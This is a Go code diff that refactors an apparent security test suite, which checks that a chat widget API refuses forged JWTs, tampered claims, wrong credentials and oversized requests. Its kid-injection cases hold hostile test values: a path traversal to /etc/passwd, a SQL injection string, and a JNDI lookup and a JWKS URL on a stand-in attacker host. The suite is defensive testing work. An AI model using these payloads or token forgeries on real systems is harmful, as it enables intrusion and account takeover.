@@ -2,15 +2,12 @@ package attack
 
 import (
 	"bytes"
-	"cmp"
 	"crypto/ed25519"
 	"crypto/sha256"
 	"encoding/base64"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
-	"net/http"
-	"regexp"
 	"slices"
 	"strings"
 	"time"
@@ -82,148 +79,6 @@ func Cases() []Case {
 	)
 }
 
-// ---- requests ----
-
-// x fills in the fixture's values that s names: {A.key} (org A's api key;
-// also {A.ID}, {A.pk}, {A.keyID}, {A.origin}, {A.host}, and B's), {SA1} (a
-// session of fixtureWorld), {CA1} (a token), {DevA1} (a device id),
-// {ContactA1} (CA1's contact id), {admin}, {deleted} (the deleted api key),
-// {KG}, {probe} and {evil} (origins no org allows), {Missing}, {CursorA1},
-// {CursorOrgA}. {new} is a fresh UUID v4, {v7} a fresh UUID v7.
-func (f *Fixture) x(s string) string {
-	return templateName.ReplaceAllStringFunc(s, func(m string) string { return f.v(m[1 : len(m)-1]) })
-}
-
-// v is the value x puts for {name}. A name it does not know panics: left in
-// the request as written, it would make a case refused for the wrong
-// reason, one that could not fail.
-func (f *Fixture) v(name string) string {
-	switch name {
-	case "new":
-		return uuid.NewString()
-	case "v7":
-		return uuid.Must(uuid.NewV7()).String()
-	}
-	v, ok := f.vals[name]
-	if !ok {
-		panic("attack: {" + name + "} is none of the fixture's values")
-	}
-	return v
-}
-
-// templateName is a name x fills in; JSON's `{"` never matches it.
-var templateName = regexp.MustCompile(`\{[A-Za-z][A-Za-z0-9.]*\}`)
-
-// req is the request route ("METHOD path") with body and the header pairs h,
-// each filled in by f.x; a header whose value is "" is not sent.
-func (f *Fixture) req(route, body string, h ...string) Request {
-	method, path, _ := strings.Cut(route, " ")
-	hd := http.Header{}
-	for i := 0; i+1 < len(h); i += 2 {
-		if v := f.x(h[i+1]); v != "" {
-			hd.Set(h[i], v)
-		}
-	}
-	return Request{Method: method, Path: f.x(path), Header: hd, Body: bodyOf(f.x(body))}
-}
-
-func bodyOf(s string) []byte {
-	if s == "" {
-		return nil
-	}
-	return []byte(s)
-}
-
-func bearer(tok string) string {
-	if tok == "" {
-		return ""
-	}
-	return "Bearer " + tok
-}
-
-// widgetReq is a widget call with widget token pk and user token tok ("" for none).
-func (f *Fixture) widgetReq(route, pk, tok, body string) Request {
-	return f.req(route, body, "X-Widget-Token", pk, "Authorization", bearer(tok))
-}
-
-// call is a case of one request, with the header pairs h.
-func call(class, name, route, body string, want Want, h ...string) Case {
-	return Case{Class: class, Name: name, Want: want, Req: func(f *Fixture) Request { return f.req(route, body, h...) }}
-}
-
-// wc is a case of a widget call of org A as user token tok; wcOn names the
-// widget token.
-func wc(class, name, route, tok, body string, want Want) Case {
-	return wcOn(class, name, route, "{A.pk}", tok, body, want)
-}
-
-func wcOn(class, name, route, pk, tok, body string, want Want) Case {
-	return call(class, name, route, body, want, "X-Widget-Token", pk, "Authorization", bearer(tok))
-}
-
-// sc is a case of an org-server (or vendor) call with Authorization auth.
-func sc(class, name, route, auth, body string, want Want) Case {
-	return call(class, name, route, body, want, "Authorization", auth)
-}
-
-// route is a widget route a user token is presented on.
-type route struct{ name, req, body string }
-
-var (
-	routeMe     = route{"GET /v1/widget/me", "GET /v1/widget/me", ""}
-	routeCreate = route{"POST /v1/widget/sessions", "POST /v1/widget/sessions", attackSessionBody}
-	routeList   = route{"GET /v1/widget/sessions", "GET /v1/widget/sessions", ""}
-	routeGet    = route{"GET /v1/widget/sessions/{A1's}", "GET /v1/widget/sessions/{SA1}", ""}
-	routePost   = route{"POST /v1/widget/sessions/{A1's}/messages", "POST /v1/widget/sessions/{SA1}/messages", attackContent}
-	routeForget = route{"DELETE /v1/widget/me", "DELETE /v1/widget/me", ""} // would erase the token's contact if let through
-
-	// allRoutes are the routes behind a user token; writeRoutes the read of
-	// /me and those that would store or erase something if let through.
-	allRoutes   = []route{routeMe, routeCreate, routeList, routeGet, routePost, routeForget}
-	writeRoutes = []route{routeMe, routeCreate, routePost, routeForget}
-)
-
-// userToken is a user token an attacker presents, with the widget token it
-// comes with ("" for org A's).
-type userToken struct {
-	name     string
-	needsKey bool
-	pk       string
-	make     func(f *Fixture) string
-	echo     []string // strings in it the answer must not repeat
-}
-
-func tok(name string, make func(f *Fixture) string) userToken {
-	return userToken{name: name, make: make}
-}
-
-func keyTok(name string, make func(f *Fixture) string) userToken {
-	return userToken{name: name, needsKey: true, make: make}
-}
-
-// fixed is a token of the fixture: fixed("{CA1}").
-func fixed(s string) func(*Fixture) string { return func(f *Fixture) string { return f.x(s) } }
-
-// tokenCases presents each token on each route and wants the same refusal.
-func tokenCases(class string, want Want, routes []route, toks ...userToken) []Case {
-	var cs []Case
-	for _, tk := range toks {
-		for _, rt := range routes {
-			cs = append(cs, Case{Class: class, Name: tk.name + ": " + rt.name, NeedsKey: tk.needsKey, Want: want,
-				Req: func(f *Fixture) Request {
-					req := f.widgetReq(rt.req, cmp.Or(tk.pk, "{A.pk}"), tk.make(f), rt.body)
-					req.Echo = tk.echo
-					return req
-				}})
-		}
-	}
-	return cs
-}
-
-func refusal(status int, code string) Want { return Want{Status: status, Code: code} }
-
-func ok(check func(*Fixture, *Response) []string) Want { return Want{Status: 200, Check: check} }
-
 // ---- token material ----
 
 // signed signs claims with the worker's own key under header (its kid
@@ -276,7 +131,7 @@ func algNoneCases() []Case {
 			return seg(h) + "." + seg(claims) + "." + sig // alg none: no signature, or a kept one
 		}
 	}
-	return tokenCases(ClassAlgNone, refusal(401, invalidToken), allRoutes,
+	return presented(ClassAlgNone, refusal(401, invalidToken), allRoutes,
 		tok("alg none, empty signature", none("none", true, false, false)),
 		tok("alg None", none("None", true, false, false)),
 		tok("alg NONE, no kid", none("NONE", false, false, false)),
@@ -299,7 +154,7 @@ func hs256Cases() []Case {
 	raw := func(f *Fixture) []byte { return f.PublicKey }
 	x := func(f *Fixture) []byte { return []byte(b64(f.PublicKey)) }
 	doc := func(f *Fixture) []byte { return f.JWKS }
-	return tokenCases(ClassAlgHS256, refusal(401, invalidToken), allRoutes,
+	return presented(ClassAlgHS256, refusal(401, invalidToken), allRoutes,
 		tok("HS256 keyed with the public key's bytes", hs("HS256", raw, false)),
 		tok("HS256 keyed with the JWKS x string", hs("HS256", x, false)),
 		tok("HS256 keyed with the whole JWKS", hs("HS256", doc, false)),
@@ -310,18 +165,18 @@ func hs256Cases() []Case {
 }
 
 func kidUnknownCases() []Case {
-	att := func(name string, header func(f *Fixture) map[string]any) userToken {
+	att := func(name string, header func(f *Fixture) map[string]any) credential {
 		return tok("attacker's key"+name, func(f *Fixture) string { return signEd(f.Attacker, header(f), f.contactClaims()) })
 	}
 	is := func(h map[string]any) func(*Fixture) map[string]any {
 		return func(*Fixture) map[string]any { return h }
 	}
-	genuine := func(name string, kid func(f *Fixture) string) userToken {
+	genuine := func(name string, kid func(f *Fixture) string) credential {
 		return keyTok("genuine signature under "+name, func(f *Fixture) string {
 			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": kid(f)}, f.contactClaims())
 		})
 	}
-	return tokenCases(ClassKIDUnknown, refusal(401, invalidToken), writeRoutes,
+	return presented(ClassKIDUnknown, refusal(401, invalidToken), writeRoutes,
 		att(", unknown kid", is(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1"})),
 		att(", no kid", is(map[string]any{"alg": "EdDSA", "typ": "JWT"})),
 		att(", the worker's kid", func(f *Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID} }),
@@ -340,7 +195,7 @@ func kidUnknownCases() []Case {
 }
 
 func kidInjectedCases() []Case {
-	var toks []userToken
+	var toks []credential
 	for _, k := range []struct{ name, kid string }{
 		{"path traversal", "../../etc/passwd"}, {"SQL", "' OR 1=1 --"}, {"4 KiB long", strings.Repeat("K", 4096)},
 		{"NUL byte", "x\x00y"}, {"URL", "https://attacker.example/jwks.json"}, {"JNDI", "${jndi:ldap://attacker.example/a}"},
@@ -348,12 +203,12 @@ func kidInjectedCases() []Case {
 	} {
 		h := map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}
 		toks = append(toks,
-			userToken{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid},
+			credential{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid},
 				make: func(f *Fixture) string { return signEd(f.Attacker, h, f.contactClaims()) }},
-			userToken{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid},
+			credential{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid},
 				make: func(f *Fixture) string { return f.signed(h, f.contactClaims()) }})
 	}
-	return tokenCases(ClassKIDInjected, refusal(401, invalidToken), writeRoutes, toks...)
+	return presented(ClassKIDInjected, refusal(401, invalidToken), writeRoutes, toks...)
 }
 
 // signedAt signs the claims of token t issued at now+at, valid for ttl.
@@ -362,24 +217,24 @@ func signedAt(t string, at, ttl time.Duration) func(*Fixture) string {
 }
 
 func expiredCases() []Case {
-	return tokenCases(ClassExpired, refusal(401, tokenExpired), allRoutes,
+	return presented(ClassExpired, refusal(401, tokenExpired), allRoutes,
 		keyTok("contact token expired an hour ago", signedAt("CA1", -2*time.Hour, time.Hour)),
 		keyTok("verified token expired ten minutes ago", signedAt("V", -70*time.Minute, time.Hour)))
 }
 
 func notYetValidCases() []Case {
-	return tokenCases(ClassNotYetValid, refusal(401, invalidToken), writeRoutes,
+	return presented(ClassNotYetValid, refusal(401, invalidToken), writeRoutes,
 		keyTok("issued an hour from now", signedAt("CA1", time.Hour, time.Hour)),
 		keyTok("nbf an hour from now", resigned(func(_ *Fixture, c map[string]any) { c["nbf"] = time.Now().Add(time.Hour).Unix() })),
 		keyTok("verified, issued a day from now", signedAt("V", 24*time.Hour, 48*time.Hour)))
 }
 
 func otherOrgCases() []Case {
-	return tokenCases(ClassOtherOrg, refusal(401, invalidToken), allRoutes,
+	return presented(ClassOtherOrg, refusal(401, invalidToken), allRoutes,
 		tok("org B's contact token with A's widget token", fixed("{CB1}")),
 		tok("org B's verified token (same user_id) with A's widget token", fixed("{VB}")),
-		userToken{name: "org A's contact token with B's widget token", pk: "{B.pk}", make: fixed("{CA1}")},
-		userToken{name: "org A's verified token with B's widget token", pk: "{B.pk}", make: fixed("{V}")},
+		credential{name: "org A's contact token with B's widget token", pk: "{B.pk}", make: fixed("{CA1}")},
+		credential{name: "org A's verified token with B's widget token", pk: "{B.pk}", make: fixed("{V}")},
 		keyTok("genuine signature, aud org B, with A's widget token", resigned(func(f *Fixture, c map[string]any) { c["aud"] = []string{f.v("B.ID")} })),
 		keyTok("genuine signature, aud a prefix-extension of org A", resigned(func(f *Fixture, c map[string]any) { c["aud"] = f.v("A.ID") + "x" })),
 	)
@@ -388,15 +243,17 @@ func otherOrgCases() []Case {
 // tamper keeps token t's header and signature around its claims changed by fn.
 func tamper(t string, fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
 	return func(f *Fixture) string {
-		return withPayload(f.v(t), edit(f.claimsOf(t), func(c map[string]any) { fn(f, c) }))
+		c := f.claimsOf(t)
+		fn(f, c)
+		return withPayload(f.v(t), c)
 	}
 }
 
 func tamperedCases() []Case {
-	return tokenCases(ClassTampered, refusal(401, invalidToken), writeRoutes,
+	return presented(ClassTampered, refusal(401, invalidToken), writeRoutes,
 		tok("contact sub changed to device A2", tamper("CA1", func(f *Fixture, c map[string]any) { c["sub"] = f.v("DevA2") })),
 		tok("contact cid changed", tamper("CA1", func(f *Fixture, c map[string]any) { c["cid"] = uuid.NewString() })),
-		userToken{name: "aud changed to org B, with B's widget token", pk: "{B.pk}",
+		credential{name: "aud changed to org B, with B's widget token", pk: "{B.pk}",
 			make: tamper("CA1", func(f *Fixture, c map[string]any) { c["aud"] = []string{f.v("B.ID")} })},
 		tok("exp pushed a year ahead", tamper("CA1", func(f *Fixture, c map[string]any) { c["exp"] = time.Now().AddDate(1, 0, 0).Unix() })),
 		tok("verified: external_id changed to ws-2", tamper("VExt", func(f *Fixture, c map[string]any) { c["external_id"] = OtherExt })),
@@ -426,7 +283,7 @@ func sigStrippedCases() []Case {
 		}
 	}
 	empty := func(*Fixture, string) string { return "" }
-	return tokenCases(ClassSigStripped, refusal(401, invalidToken), allRoutes,
+	return presented(ClassSigStripped, refusal(401, invalidToken), allRoutes,
 		tok("contact token, empty signature", strip("CA1", empty)),
 		tok("contact token, no signature segment", strip("CA1", nil)),
 		tok("verified token, empty signature", strip("V", empty)),
@@ -440,13 +297,10 @@ func sigStrippedCases() []Case {
 
 func revokedCases() []Case {
 	r := tok("revoked user's token", fixed("{R}"))
-	own := []route{
-		{"GET /v1/widget/sessions/{its own}", "GET /v1/widget/sessions/{SR}", ""},
-		{"POST /v1/widget/sessions/{its own}/messages", "POST /v1/widget/sessions/{SR}/messages", attackContent},
-	}
+	own := []apiRoute{rGet.on("{SR}", "{its own}"), rPost.on("{SR}", "{its own}")}
 	want := refusal(401, tokenRevoked)
-	return slices.Concat(tokenCases(ClassRevoked, want, allRoutes, r), tokenCases(ClassRevoked, want, own, r),
-		tokenCases(ClassRevoked, want, writeRoutes, keyTok("revoked user's claims re-signed without iat_ms", func(f *Fixture) string {
+	return slices.Concat(presented(ClassRevoked, want, allRoutes, r), presented(ClassRevoked, want, own, r),
+		presented(ClassRevoked, want, writeRoutes, keyTok("revoked user's claims re-signed without iat_ms", func(f *Fixture) string {
 			c := f.claimsOf("R")
 			delete(c, "iat_ms")
 			return f.signed(nil, c)
@@ -456,25 +310,24 @@ func revokedCases() []Case {
 func oversizedCases() []Case {
 	pad := func(n int) string { return strings.Repeat("A", n) }
 	platform := func(status int, code string) Want { return Want{Status: status, Code: code, Platform: true} }
-	return append(tokenCases(ClassOversized, refusal(401, invalidToken), []route{routeMe},
+	return slices.Concat(presented(ClassOversized, refusal(401, invalidToken), []apiRoute{rMe},
 		keyTok("9 KiB token with a genuine signature", resigned(func(_ *Fixture, c map[string]any) { c["pad"] = pad(9 << 10) }))),
-		Case{Class: ClassOversized, Name: "100 KB token: POST /v1/widget/sessions", Want: platform(401, invalidToken), Req: func(f *Fixture) Request {
+		presented(ClassOversized, platform(401, invalidToken), []apiRoute{rCreate}, tok("100 KB token", func(f *Fixture) string {
 			h, p, s := jwtParts(f.v("CA1"))
-			return f.widgetReq("POST /v1/widget/sessions", "{A.pk}", h+"."+p+pad(100_000)+"."+s, attackSessionBody)
-		}},
-		wc(ClassOversized, "1 MB Authorization header: POST /v1/widget/sessions", "POST /v1/widget/sessions", pad(1<<20), attackSessionBody, platform(401, invalidToken)),
-		wcOn(ClassOversized, "1 MB X-Widget-Token: POST /v1/widget/contacts", "POST /v1/widget/contacts", "pk_"+pad(1<<20), "", attackContactNameChange, platform(401, unauthorized)),
-		sc(ClassOversized, "100 KB api key: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer sk_"+pad(100_000), attackAuthenticateBody, platform(401, unauthorized)),
-		sc(ClassOversized, "100 KB admin token: POST /v1/admin/orgs", "POST /v1/admin/orgs", "Bearer {admin}"+pad(100_000), probeOrgBody, platform(401, unauthorized)),
-		wc(ClassOversized, "1 MB body: POST /v1/widget/contacts", "POST /v1/widget/contacts", "",
-			`{"device_id":"{DevA1}","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
-		sc(ClassOversized, "1 MB body: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer {A.key}",
-			`{"user_id":"u-victim","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
-		wc(ClassOversized, "65 KiB message: POST /v1/widget/sessions/{id}/messages", "POST /v1/widget/sessions/{SA1}/messages", "{CA1}",
-			`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
-		sc(ClassOversized, "65 KiB agent message: POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", "Bearer {A.key}",
-			`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
-	)
+			return h + "." + p + pad(100_000) + "." + s
+		}), tok("1 MB Authorization header", fixed(pad(1<<20)))), []Case{
+			wcOn(ClassOversized, "1 MB X-Widget-Token: POST /v1/widget/contacts", "POST /v1/widget/contacts", "pk_"+pad(1<<20), "", attackContactNameChange, platform(401, unauthorized)),
+			sc(ClassOversized, "100 KB api key: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer sk_"+pad(100_000), attackAuthenticateBody, platform(401, unauthorized)),
+			sc(ClassOversized, "100 KB admin token: POST /v1/admin/orgs", "POST /v1/admin/orgs", "Bearer {admin}"+pad(100_000), probeOrgBody, platform(401, unauthorized)),
+			wc(ClassOversized, "1 MB body: POST /v1/widget/contacts", "POST /v1/widget/contacts", "",
+				`{"device_id":"{DevA1}","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
+			sc(ClassOversized, "1 MB body: POST /v1/users/authenticate", "POST /v1/users/authenticate", "Bearer {A.key}",
+				`{"user_id":"u-victim","name":"Attacker","custom_data":{"x":"`+pad(1<<20)+`"}}`, platform(413, payloadTooLarge)),
+			wc(ClassOversized, "65 KiB message: POST /v1/widget/sessions/{id}/messages", "POST /v1/widget/sessions/{SA1}/messages", "{CA1}",
+				`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
+			sc(ClassOversized, "65 KiB agent message: POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", "Bearer {A.key}",
+				`{"content":"`+pad(65<<10)+`"}`, refusal(413, payloadTooLarge)),
+		})
 }
 
 // ---- answers that must show only the caller's own ----
@@ -523,8 +376,7 @@ func listing(exactly bool, names []string) func(*Fixture, *Response) []string {
 func (f *Fixture) names(ids []string) string {
 	m := map[string]string{}
 	for n, s := range f.world.Sessions {
-		id := s.ID
-		m[id] = n
+		m[s.ID] = n
 	}
 	out := make([]string, len(ids))
 	for i, id := range ids {
@@ -549,43 +401,27 @@ var hiddenWant = Want{Status: 404, Code: notFound, Check: func(f *Fixture, r *Re
 // ""), not verified, and no user.
 func meIsContact(id string) func(*Fixture, *Response) []string {
 	return func(f *Fixture, r *Response) []string {
-		var me struct {
-			Contact *struct {
-				ID       string `json:"id"`
-				Verified *bool  `json:"verified"`
-			} `json:"contact"`
-			User json.RawMessage `json:"user"`
+		contact := contract.M{"verified": false}
+		if want := f.x(id); want != "" {
+			contact["id"] = want
 		}
-		if err := json.Unmarshal(r.Body, &me); err != nil || me.Contact == nil {
-			return []string{"/me shows no contact"}
+		if d := contract.Match(json.RawMessage(r.Body), contract.M{"contact": contact, "user": contract.Absent}); d != "" {
+			return []string{"/me of a contact token: " + d}
 		}
-		var p []string
-		if me.User != nil {
-			p = append(p, "/me of a contact token shows a user")
-		}
-		if me.Contact.Verified == nil || *me.Contact.Verified {
-			p = append(p, "/me of a contact token is not verified:false")
-		}
-		if want := f.x(id); want != "" && me.Contact.ID != want {
-			p = append(p, "/me shows another contact")
-		}
-		return p
+		return nil
 	}
 }
 
 // ---- who sees which chats ----
 
 func contactAsVerifiedCases() []Case {
-	flip := func(fn func(c map[string]any)) func(f *Fixture) string {
-		return func(f *Fixture) string { return withPayload(f.v("CA1"), edit(f.claimsOf("CA1"), fn)) }
-	}
 	const cl = ClassContactAsVerified
-	return append(tokenCases(cl, refusal(401, invalidToken), writeRoutes,
-		tok("kind flipped to verified as the victim, signature kept", flip(func(c map[string]any) {
+	return append(presented(cl, refusal(401, invalidToken), writeRoutes,
+		tok("kind flipped to verified as the victim, signature kept", tamper("CA1", func(_ *Fixture, c map[string]any) {
 			c["kind"], c["sub"], c["uid"], c["email"] = "verified", VictimID, VictimID, VictimEmail
 			delete(c, "cid")
 		})),
-		tok("kind flipped to verified, cid kept, signature kept", flip(func(c map[string]any) { c["kind"] = "verified" })),
+		tok("kind flipped to verified, cid kept, signature kept", tamper("CA1", func(_ *Fixture, c map[string]any) { c["kind"] = "verified" })),
 		keyTok("genuine signature on a contact with the victim's uid and email", resigned(func(_ *Fixture, c map[string]any) {
 			c["uid"], c["email"] = VictimID, VictimEmail
 		})),
@@ -658,38 +494,6 @@ func externalIDCases() []Case {
 
 // ---- api keys, admin token, credential kinds ----
 
-// serverRoutes are the org-server routes, each with a body that would store
-// something if let through; adminRoutes the vendor routes, each of which
-// would change something.
-var (
-	serverRoutes = []route{
-		{"GET /v1/sessions", "GET /v1/sessions", ""},
-		{"GET /v1/sessions/{id}", "GET /v1/sessions/{SA1}", ""},
-		{"POST /v1/sessions/{id}/messages", "POST /v1/sessions/{SA1}/messages", attackContent},
-		{"POST /v1/users/authenticate", "POST /v1/users/authenticate", attackAuthenticateBody},
-		{"POST /v1/users/revoke", "POST /v1/users/revoke", attackRevokeVictimBody},
-	}
-	adminRoutes = []route{
-		{"POST /v1/admin/orgs", "POST /v1/admin/orgs", probeOrgBody},
-		{"POST /v1/admin/orgs/{A}/api-keys", "POST /v1/admin/orgs/{A.ID}/api-keys", ""},
-		{"DELETE /v1/admin/orgs/{A}/api-keys/{A's key}", "DELETE /v1/admin/orgs/{A.ID}/api-keys/{A.keyID}", ""},
-	}
-)
-
-// authCases presents each Authorization value (a template, or made by a
-// func) on each route and wants the same refusal.
-func authCases(class string, want Want, routes []route, auths ...userToken) []Case {
-	var cs []Case
-	for _, a := range auths {
-		for _, rt := range routes {
-			cs = append(cs, Case{Class: class, Name: a.name + ": " + rt.name, Want: want, Req: func(f *Fixture) Request {
-				return f.req(rt.req, rt.body, "Authorization", a.make(f))
-			}})
-		}
-	}
-	return cs
-}
-
 func apiKeyOtherOrgCases() []Case {
 	const cl = ClassAPIKeyOtherOrg
 	nf := refusal(404, notFound)
@@ -709,15 +513,15 @@ func apiKeyOtherOrgCases() []Case {
 }
 
 func apiKeyDeletedCases() []Case {
-	return authCases(ClassAPIKeyDeleted, refusal(401, unauthorized), serverRoutes, tok("deleted key", fixed("Bearer {deleted}")))
+	return presented(ClassAPIKeyDeleted, refusal(401, unauthorized), serverRoutes, tok("deleted key", fixed("Bearer {deleted}")))
 }
 
 func apiKeyForgedCases() []Case {
-	b := func(name string, key func(f *Fixture) string) userToken {
+	b := func(name string, key func(f *Fixture) string) credential {
 		return tok(name, func(f *Fixture) string { return "Bearer " + key(f) })
 	}
 	sum := func(f *Fixture) []byte { s := sha256.Sum256([]byte(f.v("A.key"))); return s[:] }
-	keys := []userToken{
+	keys := []credential{
 		b("a random sk_ key", func(*Fixture) string { return "sk_" + randHex(24) }),
 		b("A's key with its last character changed", func(f *Fixture) string {
 			k := f.v("A.key")
@@ -732,17 +536,13 @@ func apiKeyForgedCases() []Case {
 		tok("A's key id as a key", fixed("Bearer sk_{A.keyID}")),
 	}
 	want := refusal(401, unauthorized)
-	var cs []Case
-	for _, k := range keys { // GET /v1/sessions, POST /v1/users/revoke
-		cs = append(cs, authCases(ClassAPIKeyForged, want, []route{serverRoutes[0], serverRoutes[4]}, k)...)
-	}
-	return append(cs, authCases(ClassAPIKeyForged, want, serverRoutes[4:],
+	return append(presented(ClassAPIKeyForged, want, []apiRoute{rOrgList, rRevoke}, keys...), presented(ClassAPIKeyForged, want, []apiRoute{rRevoke},
 		tok("A's key without the Bearer scheme", fixed("{A.key}")), tok("A's key with scheme Basic", fixed("Basic {A.key}")),
 		tok("A's key with scheme Token", fixed("Token {A.key}")), tok("empty Bearer", fixed("Bearer ")), tok("no Authorization", fixed("")))...)
 }
 
 func adminForgedCases() []Case {
-	return authCases(ClassAdminForged, refusal(401, unauthorized), adminRoutes,
+	return presented(ClassAdminForged, refusal(401, unauthorized), adminRoutes,
 		tok("no Authorization", fixed("")), tok("empty Bearer", fixed("Bearer ")),
 		tok("admin token with a character appended", fixed("Bearer {admin}x")),
 		tok("admin token truncated", func(f *Fixture) string { return "Bearer " + f.v("admin")[:len(f.v("admin"))-1] }),
@@ -753,14 +553,12 @@ func adminForgedCases() []Case {
 func wrongKindCases() []Case {
 	const cl = ClassWrongKind
 	no := refusal(401, unauthorized)
-	var cs []Case
 	// Widget token, admin token and user tokens as api keys.
-	for _, k := range []userToken{tok("widget token as api key", fixed("Bearer {A.pk}")), tok("admin token as api key", fixed("Bearer {admin}")),
-		tok("contact token as api key", fixed("Bearer {CA1}")), tok("verified token as api key", fixed("Bearer {V}"))} {
-		cs = append(cs, authCases(cl, no, []route{serverRoutes[0], serverRoutes[3], serverRoutes[4]}, k)...)
-	}
+	cs := presented(cl, no, []apiRoute{rOrgList, rAuthenticate, rRevoke}, tok("widget token as api key", fixed("Bearer {A.pk}")),
+		tok("admin token as api key", fixed("Bearer {admin}")), tok("contact token as api key", fixed("Bearer {CA1}")),
+		tok("verified token as api key", fixed("Bearer {V}")))
 	// Api key, widget token, verified token as the admin token.
-	cs = append(cs, authCases(cl, no, adminRoutes, tok("api key as admin token", fixed("Bearer {A.key}")),
+	cs = append(cs, presented(cl, no, adminRoutes, tok("api key as admin token", fixed("Bearer {A.key}")),
 		tok("widget token as admin token", fixed("Bearer {A.pk}")), tok("verified token as admin token", fixed("Bearer {V}")))...)
 	// Api key, admin token, user token as the widget token.
 	for _, k := range []struct{ name, pk string }{
@@ -770,7 +568,7 @@ func wrongKindCases() []Case {
 			wcOn(cl, k.name+": POST /v1/widget/sessions", "POST /v1/widget/sessions", k.pk, "{CA1}", attackSessionBody, no))
 	}
 	// Api key, widget token, admin token as the user token.
-	cs = append(cs, tokenCases(cl, refusal(401, invalidToken), writeRoutes, tok("api key as user token", fixed("{A.key}")),
+	cs = append(cs, presented(cl, refusal(401, invalidToken), writeRoutes, tok("api key as user token", fixed("{A.key}")),
 		tok("widget token as user token", fixed("{A.pk}")), tok("admin token as user token", fixed("{admin}")))...)
 	// The widget token alone, in Authorization.
 	return append(cs, wcOn(cl, "widget token in Authorization, no X-Widget-Token: POST /v1/widget/sessions", "POST /v1/widget/sessions", "", "{A.pk}", attackSessionBody, no))
@@ -792,7 +590,7 @@ func corsOriginCases() []Case {
 	}
 	for _, o := range origins[:2] {
 		for _, rt := range allRoutes[:5] {
-			cs = append(cs, call(ClassCORSOrigin, o.name+": "+rt.name, rt.req, rt.body, deny, "X-Widget-Token", "{A.pk}", "Authorization", "Bearer {CA1}", "Origin", o.origin))
+			cs = append(cs, call(ClassCORSOrigin, o.name+": "+rt.name(), rt.route(), rt.body, deny, "X-Widget-Token", rt.pk, "Authorization", rt.auth, "Origin", o.origin))
 		}
 	}
 	return cs
